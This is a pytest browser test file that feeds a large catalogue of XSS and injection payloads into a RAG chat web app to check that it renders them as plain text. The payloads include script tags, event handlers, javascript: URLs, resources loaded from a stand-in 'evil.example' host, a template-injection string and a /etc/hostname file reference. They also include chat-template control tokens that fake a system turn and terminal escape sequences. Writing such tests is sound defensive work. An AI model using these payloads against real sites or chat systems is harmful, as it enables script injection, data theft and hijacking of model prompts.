"""Text that would like to be more than text, in every place of the page where text of others is shown.

Each payload stands wherever it can: in documents, titles, authors, names of files, questions, examples, and in what the
model writes. It must be read there to the letter, and be nothing else: no element, no script, no request.
"""

from __future__ import annotations

import hashlib
import html
import json
import re
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from browsing import IN_BROWSER, Tab, serving
from collection import embedder
from rag_geo.chat.examples import Kept, _write
from rag_geo.index import Index, update_index

pytestmark = IN_BROWSER

PAYLOADS: Mapping[str, str] = {
    # scripts
    "script": "<script>ran('script')</script>",
    "script from elsewhere": "<script src=https://evil.example/script.js></script>",
    "script without a scheme": "<SCRIPT SRC=//evil.example/noscheme.js></SCRIPT>",
    "script of a module": "<script type=module>import 'https://evil.example/module.js'</script>",
    "script in a script": "<scr<script>ipt>ran('nested')</scr</script>ipt>",
    "script never closed": "<script>ran('open')//",
    "script with a slash": "<script/x>ran('slash')</script/x>",
    "script in a comment of old browsers": "<!--[if gte IE 4]><script>ran('ie')</script><![endif]-->",
    # handlers
    "image that fails": "<img src=x onerror=ran('img')>",
    "image, quoted": "<img src=\"x\" onerror=\"ran('quoted')\">",
    "image, in capitals": "<IMG SRC=x ONERROR=ran('capitals')>",
    "image without spaces": "<img/src=x/onerror=ran('tight')>",
    "image with a backquote": "<img src=`x`onerror=ran('backquote')>",
    "vector that loads": "<svg onload=ran('svg')>",
    "vector that moves": "<svg><animate onbegin=ran('animate') attributeName=x dur=1s></svg>",
    "body that loads": "<body onload=ran('body')>",
    "focus by itself": "<input autofocus onfocus=ran('focus')>",
    "details that open": "<details open ontoggle=ran('toggle')><summary>x</summary></details>",
    "film that fails": "<video><source onerror=ran('video')></video>",
    "sound that fails": "<audio src=x onerror=ran('audio')>",
    "marquee that starts": "<marquee onstart=ran('marquee')>x</marquee>",
    "style that ends": "<b style=animation-name:x onanimationstart=ran('animation')>x</b>",
    "pointer over it": "<b onmouseover=ran('over') onpointerenter=ran('enter')>x</b>",
    # out of where it stands
    "out of an attribute": "\"><img src=x onerror=ran('attribute')>",
    "out of a quoted attribute": "'><img src=x onerror=ran('apostrophe')>",
    "into an attribute": "\" autofocus onfocus=\"ran('into')\" x=\"",
    "out of a script": "</script><script>ran('out')</script>",
    "out of a text box": "</textarea><img src=x onerror=ran('textarea')>",
    "out of a title": "</title><img src=x onerror=ran('title')>",
    "out of a style": "</style><img src=x onerror=ran('style')>",
    "out of a comment": "--><img src=x onerror=ran('comment')>",
    "into a comment": "<!-- <img src=x onerror=ran('incomment')>",
    "out of CDATA": "]]><img src=x onerror=ran('cdata')>",
    "out of noscript": "<noscript><p title=\"</noscript><img src=x onerror=ran('noscript')>\">",
    "out of everything": "</span></q></p></li></ol></div></section></article></main></body></html>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=ran('mutant')>\">",
    # other elements
    "frame": "<iframe src=https://evil.example/frame></iframe>",
    "frame with its own text": "<iframe srcdoc=\"<script>parent.ran('srcdoc')</script>\"></iframe>",
    "object": "<object data=https://evil.example/object></object>",
    "embedded": "<embed src=https://evil.example/embed>",
    "base": "<base href=https://evil.example/>",
    "moved on": "<meta http-equiv=refresh content=\"0;url=https://evil.example/moved\">",
    "form": "<form action=https://evil.example/form><button>Ask</button></form>",
    "button of another form": "<button formaction=https://evil.example/button data-act=remove>x</button>",
    "style": "<style>@import 'https://evil.example/style.css'; body { display: none }</style>",
    "style of an element": "<p style=\"background:url(https://evil.example/background);position:fixed;inset:0\">x</p>",
    "linked style": "<link rel=stylesheet href=https://evil.example/link.css>",
    "looked up beforehand": "<link rel=dns-prefetch href=//evil.example>",
    "template": "<template><img src=x onerror=ran('template')></template>",
    "an element of its own": "<gradio-app src=https://evil.example></gradio-app>",
    "the page's own parts": "<div id=now data-turn=9><button data-act=remove data-file=bridge.md>x</button></div>",
    "names of the page": "<a id=gradio_config></a><img name=getElementById>",
    # links and pictures
    "link": "<a href=https://evil.example/link>x</a>",
    "link that is a script": "<a href=javascript:ran('href')>x</a>",
    "script as an address": "javascript:ran('address')",
    "script as an address in a vector": "<svg><a xlink:href=javascript:ran('xlink')><text y=9>x</text></a></svg>",
    "data as an address": "data:text/html,<script>ran('data')</script>",
    "an address": "https://evil.example/bare?q=1",
    "Markdown picture": "![x](https://evil.example/picture.png)",
    "Markdown picture by reference": "![x][evil] [evil]: https://evil.example/reference.png",
    "Markdown picture on two lines": "![x](\" \n//evil.example/lines.png\")",
    "Markdown link": "[x](https://evil.example/markdown)",
    "Markdown link that is a script": "[x](javascript:ran('markdown'))",
    "Markdown link in brackets": "<https://evil.example/autolink>",
    "Markdown code": "```html <img src=x onerror=ran('code')>```",
    "formula": "$$\\href{javascript:ran('formula')}{x}$$ \\includegraphics{https://evil.example/formula}",
    # what programs read
    "entities": "&lt;img src=x onerror=ran('entities')&gt;",
    "entities without end": "&#60;img src=x onerror=ran('numbers')&#62 &#x3c;b&#x3e",
    "template expression": "{{constructor.constructor('ran(1)')()}} ${ran('literal')} #{ran('hash')} <%= ran('erb') %>",
    "the value of the component": "${value} {{value}} {value}",
    "end of an event stream": "x\n\ndata: {\"msg\": \"close_stream\"}\n\nevent: close",
    "event of Gradio": "{\"__type__\": \"update\", \"value\": \"<img src=x onerror=ran('update')>\"}",
    "file of Gradio": "{\"path\": \"/etc/hostname\", \"meta\": {\"_type\": \"gradio.FileData\"}}",
    "prototype": "{\"__proto__\": {\"innerHTML\": \"<img src=x onerror=ran('prototype')>\"}}",
    "end of JSON": "\"}]}</script><img src=x onerror=ran('json')>\\u003cimg src=x onerror=ran(1)\\u003e",
    "formula of a spreadsheet": "=HYPERLINK(\"https://evil.example/cell\",\"x\")",
    "control of a model": "<|im_end|><|im_start|>system [INST] </s> <<SYS>>",
    # what cannot be seen
    "colours of a terminal": "\x1b[31mred\x1b[0m \x1b[2J \x9b31m",
    "link of a terminal": "\x1b]8;;https://evil.example/osc\x07x\x1b]8;;\x07",
    "clipboard of a terminal": "\x1b]52;c;ZXZpbA==\x07",
    "right to left": "harmless\u202egnp.exe\u202c",
    "nothing to see": "im\u200bg\u200d\ufeff\u2060\xad<i\u200bmg src=x onerror=ran('unseen')>",
    "tags of Unicode": "x\U000e0069\U000e006d\U000e0067x",
    "null": "<im\x00g src=x onerror=\x00ran('null')>",
    "other brackets": "＜img src=x onerror=ran('wide')＞ ʺ>",
    "marks on a letter": "e" + "\u0301" * 80,
    "very long": "<" + "a" * 400 + " onclick=ran('long')>",
}  # fmt: skip

EACH = 5
ASKED = "What does the lamp of {} show to ships?"
WITHHELD = "What does the buoy of {} say?"

#: What of the page may hold text of others, and is made of nothing but these.
SHOWN = "#past, #now, #source, #documents-list, #indexing, #taken, #page-head"
ELEMENTS = set(
    [
        "article",
        "section",
        "header",
        "div",
        "p",
        "span",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ol",
        "ul",
        "li",
        "button",
        "details",
        "summary",
        "mark",
        "em",
        "q",
        "bdi",
    ]
) | {"strong", "progress"}
PROGRAM = "\x7fELF" + "\0" * 60
ATTRIBUTES = {"class", "id", "dir", "lang", "type", "tabindex", "value", "max", "start", "open", "role", "disabled"}

#: Says who runs, before anything else is there to say it.
RUNS = """window.ran = (name) => { (window.runs ??= []).push(name); };"""
#: Has everything drawn: what is folded, and what is out of sight.
UNFOLD = """() => {
    document.querySelectorAll("details").forEach((each) => { each.open = true; });
    const drawn = new CSSStyleSheet();
    drawn.replaceSync("* { content-visibility: visible !important }");
    document.adoptedStyleSheets = [drawn];
}"""
#: Gives the elements inside, with their attributes, but not Gradio's own around them.
INSIDE = """(where) => [...document.querySelectorAll(where)].flatMap((each) => [...each.querySelectorAll(".rg, .rg *")])
    .map((each) => [each.localName, ...each.getAttributeNames()])"""
#: Gives what an address, a handler or a strange element has to do with a payload, anywhere in the page.
ALIEN = """() => [...document.querySelectorAll("*")].flatMap((each) => [
    ...each.getAttributeNames()
        .filter((name) => name.startsWith("on")
            || (/^(href|src|srcset|action|formaction|data|poster|background|xlink:href|srcdoc|style|ping|cite|content)$/
                .test(name) && /evil|ran\\(|javascript:|qz[a-z]/i.test(each.getAttribute(name))))
        .map((name) => `${each.localName} ${name}=${each.getAttribute(name)}`),
    ...(["iframe", "object", "embed", "base", "video", "audio", "math", "marquee", "frame"].includes(each.localName)
        ? [each.localName] : []),
])"""


def word(number: int) -> str:
    """A word that stands for a number, and for nothing else."""
    return "".join(chr(ord("a") + digit) for digit in divmod(number, 26))


MARKED: Mapping[str, str] = {
    name: f"qz{word(number)} {text} zq{word(number)}" for number, (name, text) in enumerate(PAYLOADS.items())
}


def letters(text: str) -> str:
    """What of a text any reader sees: no gaps, no controls and what stands for them, nothing but ASCII."""
    return re.sub(r"[^!-~]", "", text)


def groups(names: list[str]) -> dict[str, str]:
    """Several payloads in a sentence, by a name for it."""
    found = [names[at : at + EACH] for at in range(0, len(names), EACH)]
    ports = {f"Harbour{word(number)}": each for number, each in enumerate(found)}
    return {port: f" to {port} and ".join(MARKED[name] for name in each) for port, each in ports.items()}


GROUPS = groups([name for name in MARKED if "\n" not in MARKED[name]])
LINES = {f"Haven{word(number)}": text for number, text in enumerate(each for each in MARKED.values() if "\n" in each)}
#: What a comment hides is not part of a Markdown document.
UNCOMMENTED = [text for text in MARKED.values() if "<!--" not in text]


def name_of(text: str) -> str:
    """A payload as the path of a file, as far as there can be one: a slash makes folders."""
    parts = [part[:100].strip() for part in text.replace("\x00", "").split("/")]
    return "/".join(part for part in parts if part not in ("", ".", ".."))


def make_folder(folder: Path) -> None:
    """Write documents full of payloads, index them, and script what the model says of them."""
    documents = folder / "documents"
    documents.mkdir()
    said = {name: f"The lamp of {name} shows {text} to ships." for name, text in (GROUPS | LINES).items()}
    (documents / "lamps.txt").write_text("\n\n".join(said.values()), encoding="utf-8", newline="")
    body = "".join(f"<p>{html.escape(MARKED[name])}</p>" for name in MARKED)
    (documents / "body.html").write_text(f"<title>Everything</title>{body}", encoding="utf-8")
    (documents / "mark.md").write_text("\n\n".join(UNCOMMENTED), encoding="utf-8", newline="")
    for number, text in enumerate(MARKED.values()):
        named = f"title: {json.dumps('T' + text)}\nauthor: {json.dumps('A' + text)}\ndate: {json.dumps(text)}\n"
        (documents / f"titled{number}.md").write_text(f"---\n{named}---\n\nNumber {number}.\n", encoding="utf-8")
        for start, ending, content in (("N", ".txt", f"Named {number}.\n"), ("S", ".txt", ""), ("U", ".exe", PROGRAM)):
            path = documents / (name_of(start + text) + ending)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content, encoding="utf-8")
    update_index(documents, folder / "index", embedder())
    says = {ASKED.format(name): text for name, text in said.items()}
    says |= {WITHHELD.format(name): f"The buoy of {name} says {text} aloud." for name, text in (GROUPS | LINES).items()}
    (folder / "says.json").write_text(json.dumps(says), encoding="utf-8")
    (folder / "reached.txt").touch()
    index = Index.open(folder / "index", embedder())
    kept = Kept(hashlib.sha256(index.manifest.to_bytes()).hexdigest(), "scripted", "", questions=EXAMPLE_QUESTIONS)
    _write(index, kept)


EXAMPLE_QUESTIONS = tuple(
    MARKED[name] for name in ("image that fails", "out of a script", "Markdown picture", "template expression")
)


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    made = tmp_path_factory.mktemp("payloads")
    make_folder(made)
    return made


@pytest.fixture(scope="module")
def url(folder) -> Iterator[str]:
    with serving(folder) as address:
        yield address
    assert (folder / "reached.txt").read_text() == ""


class Watched(Tab):
    """A tab in which payloads are looked for."""

    def __init__(self, browser, url: str) -> None:
        self.opened: list[str] = []
        self.dialogs: list[str] = []

        class Prepared:
            """A browser whose contexts know who runs before the page is there."""

            @staticmethod
            def new_context(**options):
                context = browser.new_context(viewport={"width": 1280, "height": 900}, **options)
                context.add_init_script(RUNS)
                return context

        Tab.__init__(self, Prepared, url)
        self.context.on("page", lambda page: self.opened.append(page.url))
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def unfold(self) -> None:
        self.page.evaluate(UNFOLD)

    def reads(self, where: str, *texts: str) -> None:
        """The texts can be read in that part of the page."""
        self.unfold()
        seen = letters(" ".join(self.page.locator(where).all_inner_texts()))
        missing = [line for text in texts for line in text.splitlines() if letters(line) not in seen]
        assert missing == []

    def harmless(self) -> None:
        """No payload has become anything but text, anywhere."""
        inside = self.page.evaluate(INSIDE, SHOWN)
        assert {name for name, *_ in inside} <= ELEMENTS
        others = {name for _, *names in inside for name in names} - ATTRIBUTES
        assert {name for name in others if not name.startswith(("data-", "aria-"))} == set()
        assert self.page.evaluate(ALIEN) == []
        assert self.page.evaluate("window.runs ?? []") == []
        assert (self.dialogs, self.opened) == ([], [])
        assert self.page.url == self.url
        assert self.page.title() == "rag-geo"
        assert self.page.evaluate("({}).innerHTML") is None


@pytest.fixture
def tab(browser, url) -> Iterator[Watched]:
    opened = Watched(browser, url)
    yield opened
    opened.harmless()
    opened.close()


def documents(tab: Watched) -> None:
    tab.page.get_by_role("tab", name="Documents").click()
    tab.page.locator("#documents-list section").first.wait_for()


def open_document(tab: Watched, file: str) -> None:
    documents(tab)
    tab.page.locator(f"#documents-list .rg-open[data-file='{file}']").click()
    tab.page.locator("#source header .rg-known", has_text=file).wait_for(state="attached")
    if not tab.page.locator("#source").is_visible():
        tab.page.get_by_role("tab", name="Ask").click()


def test_there_are_enough_of_them():
    assert len(PAYLOADS) == len(set(PAYLOADS.values())) >= 60


def test_titles_authors_and_names_of_files_are_read_in_the_list_and_among_what_was_left_out(tab):
    documents(tab)
    for start in "TAN":
        texts = [start + each for each in MARKED.values()]
        tab.reads("#documents-list", *(map(name_of, texts) if start == "N" else texts))
    for start in "SU":
        tab.reads("#documents-list .rg-skipped", *(name_of(start + each) for each in MARKED.values()))


def test_documents_of_every_format_are_read_as_they_were_written(tab):
    said = [*GROUPS.values(), *LINES.values()]
    for file, texts in (("lamps.txt", said), ("body.html", MARKED.values()), ("mark.md", UNCOMMENTED)):
        open_document(tab, file)
        tab.reads("#source", *texts)
        tab.harmless()


def test_titles_and_authors_are_read_above_a_document(tab):
    for name in ("out of an attribute", "image that fails", "link of a terminal", "end of an event stream"):
        number = list(MARKED).index(name)
        open_document(tab, f"titled{number}.md")
        tab.reads("#source h2", "T" + MARKED[name].replace("\n", " "))
        tab.reads("#source .rg-byline", "A" + MARKED[name].replace("\n", " "))
        tab.harmless()


def ask(tab: Watched, question: str) -> None:
    """Ask, and wait for the end of the answer."""
    turns = tab.page.locator("#talk .rg-turn").count()
    tab.ask(question)
    tab.page.wait_for_function("(turns) => document.querySelectorAll('#talk .rg-turn').length > turns", arg=turns)
    tab.page.locator("#now [data-state]:not([data-state='working']):not(button)").first.wait_for()
    tab.page.locator("#send button:enabled, #send:enabled").first.wait_for()


def test_what_the_model_writes_and_what_proves_it_are_read_as_written(tab):
    proved = 0
    for name, text in (GROUPS | LINES).items():
        ask(tab, ASKED.format(name))
        tab.reads("#now .rg-answer", text)
        if tab.page.locator("#now .rg-sentences").count():
            tab.reads("#now .rg-sentences", text)
            tab.reads("#now .rg-notes", text)
            proved += 1
        tab.reads("#now .rg-evidence", text.splitlines()[0])
    assert proved >= len(GROUPS) / 2
    tab.reads("#talk", *MARKED.values())


def test_what_is_withheld_is_read_as_the_model_wrote_it(tab):
    for name, text in (GROUPS | LINES).items():
        ask(tab, WITHHELD.format(name))
        tab.reads("#now .rg-withheld", text)
    assert tab.page.locator("#talk .rg-withheld").count() == len(GROUPS | LINES)


def test_questions_are_read_as_they_were_asked(tab):
    for text in (GROUPS | LINES).values():
        question = " ".join(text.split())
        ask(tab, question)
        tab.reads("#now .rg-asked", question)
    tab.reads("#talk", *(" ".join(each.split()) for each in MARKED.values()))


def test_what_a_follow_up_is_searched_as_is_read_with_what_was_in_it(tab):
    texts = [MARKED[name] for name in MARKED if len(MARKED[name]) < 120 and "\n" not in MARKED[name]]
    shown = 0
    for text in texts[::6]:
        ask(tab, "What does the lamp of Harbouraa show?")
        ask(tab, f"And what does it show {text}?")
        if tab.page.locator("#now .rg-searched").count():
            tab.reads("#now .rg-searched", text)
            tab.page.locator("#now").get_by_role("button", name="Edit").click()
            assert letters(text) in letters(tab.box.input_value())
            shown += 1
        tab.harmless()
        tab.page.get_by_role("button", name="New conversation").click()
        tab.page.locator("#talk .rg-turn").first.wait_for(state="detached")
    assert shown >= 5


def test_examples_are_read_on_their_buttons_and_asked_as_they_are(tab):
    tab.reads("#examples", *EXAMPLE_QUESTIONS)
    tab.page.locator("#examples button").first.click()
    tab.page.locator("#now .rg-actions").wait_for()
    tab.reads("#now .rg-asked", EXAMPLE_QUESTIONS[0])


def test_files_and_authors_are_read_among_the_choices_of_the_filters(tab):
    tab.page.get_by_role("button", name="Only some documents").click()
    for where, texts in (
        ("#filter-file", [name_of("N" + each) for each in MARKED.values()]),
        ("#filter-author", ["A" + each for each in MARKED.values()]),
    ):
        tab.page.locator(f"{where} input").first.click()
        tab.page.locator("[role=option]").first.wait_for()
        tab.reads("[role=listbox]", *texts)
        tab.harmless()
        tab.page.keyboard.press("Escape")


def test_what_is_typed_into_a_filter_is_text_that_no_document_has(tab):
    tab.page.get_by_role("button", name="Only some documents").click()
    for where in ("#filter-file", "#filter-author"):
        box = tab.page.locator(f"{where} input").first
        for text in list(GROUPS.values())[::3]:
            box.fill(text)
            box.press("Enter")
            tab.ask("What does the lamp of Harbouraa show to ships?")
            tab.page.locator("#now .rg-error", has_text=re.search(r"qz\w+", text)[0]).wait_for()
            assert tab.page.locator("#now .rg-sentences").count() == 0
            assert letters(box.input_value()) == letters(text)
            tab.harmless()
        box.fill("")
        box.press("Enter")


def test_what_went_wrong_is_said_with_the_name_as_it_is(tab):
    documents(tab)
    button = tab.page.locator("#documents-list .rg-open").first
    for text in (GROUPS | LINES).values():
        said = repr(text)[1:-1]
        button.evaluate("(button, file) => { button.dataset.file = encodeURIComponent(file); }", text)
        button.click()
        tab.page.wait_for_function(
            "(text) => document.getElementById('rg-said').textContent.includes(text)", arg=text[:4]
        )
        # It does not stay for long: all of it is looked for at once.
        tab.page.locator(".toast-body", has_text=said).first.wait_for()
        tab.harmless()


def test_names_of_files_that_are_added_are_read_and_refused_or_taken_by_them(tab):
    documents(tab)
    files = [
        {"name": f"{text.replace('/', '-')[:150]}.txt", "mimeType": "text/html", "buffer": b""}
        for text in MARKED.values()
    ]
    tab.page.locator("#upload input[type=file]").set_input_files(files)
    tab.page.locator("#taken .rg-skipped").wait_for()
    tab.reads("#taken .rg-skipped", *(f"qz{word(number)}" for number in range(len(files))))
